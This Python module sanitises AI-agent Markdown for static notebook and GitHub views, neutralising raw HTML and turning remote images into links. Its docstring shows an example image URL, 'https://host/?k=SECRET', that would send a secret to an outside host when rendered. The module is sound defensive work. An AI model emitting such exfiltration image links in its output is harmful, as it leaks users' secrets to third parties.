"""Markdown that a viewer can render without running agent HTML or fetching anything.

The static copy of a conversation (nbconvert, GitHub, nbviewer) is Markdown, and agent text
is Markdown with whatever raw HTML or remote image a model chose to write: an ``<img>`` or
``![x](https://host/?k=SECRET)`` there would be fetched by every viewer. Regexes cannot tell
code from text reliably (unmatched fences, escaped backticks), so agent text goes through a
CommonMark tokenizer (markdown-it-py) and back to Markdown with mdformat's renderer, with raw
HTML turned into literal text and remote images into links. Plain strings (tool names,
results, errors) are escaped character by character: CommonMark lets every ASCII punctuation
character be backslash-escaped, so the escaped text always reads literally.
"""

from __future__ import annotations

import functools
import re
import string
from collections.abc import Mapping
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdformat.renderer import DEFAULT_RENDERERS, MDRenderer, RenderContext, RenderTreeNode

# every ASCII punctuation character but those no CommonMark/GFM construct starts with
# (they only occur inside constructs that need an escaped one, such as "[" or "<")
_PUNCT = re.compile("([" + re.escape("".join(c for c in string.punctuation if c not in ":/,;?'\"%@^")) + "])")
_SPACE = re.compile(r"\s+")
# inline images that cannot contact a host (markdown-it's own list of safe data: images)
_DATA_IMAGE = re.compile(r"^data:image/(?:png|jpe?g|gif|webp);", re.IGNORECASE)


def literal(text: str) -> str:
    """Plain text as Markdown that renders as exactly that text, on one line."""
    return _PUNCT.sub(r"\\\1", _SPACE.sub(" ", text).strip())


def code_span(text: str) -> str:
    """Text in an inline code span whose fence is longer than any backtick run inside."""
    flat = _SPACE.sub(" ", text)
    longest = max((len(run) for run in re.findall(r"`+", flat)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {flat} {fence}"


def _html_block_as_text(node: RenderTreeNode, _context: RenderContext) -> str:
    lines = (literal(line) for line in node.content.splitlines())
    return "\n".join(line for line in lines if line)


def _html_inline_as_text(node: RenderTreeNode, _context: RenderContext) -> str:
    return literal(node.content)


def _image_as_link(node: RenderTreeNode, _context: RenderContext) -> str:
    src = str(node.attrs.get("src", ""))
    alt = "".join(child.content for child in node.children or () if child.type in ("text", "code_inline"))
    # markdown-it has percent-encoded the URL: no space, "<" or ">" is left to end <...> early
    if _DATA_IMAGE.match(src):
        return f"![{literal(alt)}](<{src}>)"
    return f"[image: {literal(alt) or 'link'}](<{src}>)"


def _inline_link(node: RenderTreeNode, context: RenderContext) -> str:
    # never the reference form: a definition written after one message could turn the
    # bracketed text of another message into a remote image once the pieces are joined
    node.meta.pop("label", None)
    return DEFAULT_RENDERERS["link"](node, context)


class _Inert:
    """An mdformat parser extension: only rendering functions, nothing added to the parser."""

    RENDERERS: Mapping[str, Any] = {
        "html_block": _html_block_as_text,
        "html_inline": _html_inline_as_text,
        "image": _image_as_link,
        "link": _inline_link,
    }
    POSTPROCESSORS: Mapping[str, Any] = {}

    @staticmethod
    def update_mdit(_mdit: MarkdownIt) -> None:
        return None


def _parser() -> MarkdownIt:
    mdit = MarkdownIt("commonmark", renderer_cls=MDRenderer)  # type: ignore[arg-type]  # mdformat's own way
    mdit.options["mdformat"] = {"wrap": "keep", "number": False}
    mdit.options["store_labels"] = True
    mdit.options["parser_extension"] = [_Inert]
    mdit.options["codeformatters"] = {}
    return mdit


_MDIT = _parser()
_CHECK = MarkdownIt("commonmark")


@functools.lru_cache(maxsize=256)  # the whole transcript is rendered again after each run
def agent_markdown(text: str) -> str:
    """Agent-written Markdown, kept as Markdown, with raw HTML as text and remote images as links."""
    env: dict[str, Any] = {}
    tokens = _CHECK.parse(text, env)
    if _inert(tokens) and not env.get("references") and _fences_closed(text, tokens):
        return text.strip("\n")  # nothing to change: skip the slower round trip
    # a trailing newline lets mdformat close an unterminated fence on a line of its own
    rendered = _MDIT.render(text if text.endswith("\n") else text + "\n").rstrip("\n")
    return rendered if is_inert(rendered) else fenced(text)


def fenced(text: str) -> str:
    """A fenced code block holding ``text``: the fallback that is inert by construction."""
    longest = max((len(run) for run in re.findall(r"`{3,}", text)), default=2)
    fence = "`" * (longest + 1)
    return f"{fence}text\n{text}\n{fence}"


def is_inert(markdown: str) -> bool:
    """Whether a CommonMark renderer would emit no raw HTML and fetch no remote image for it."""
    return _inert(_CHECK.parse(markdown))


def _inert(tokens: list[Token]) -> bool:
    for token in tokens:
        if token.type in ("html_block", "html_inline"):
            return False
        for child in token.children or ():
            if child.type == "html_inline":
                return False
            if child.type == "image" and not _DATA_IMAGE.match(str(child.attrs.get("src", ""))):
                return False
    return True


def _fences_closed(text: str, tokens: list[Token]) -> bool:
    """No code fence runs to the end unclosed (it would swallow what follows in the document)."""
    lines = text.splitlines()
    for token in tokens:
        if token.type == "fence" and token.map and token.map[1] >= len(lines):
            last = lines[token.map[1] - 1].strip() if token.map[1] - 1 > token.map[0] else ""
            if not (last and set(last) == {token.markup[0]} and len(last) >= len(token.markup)):
                return False
    return True
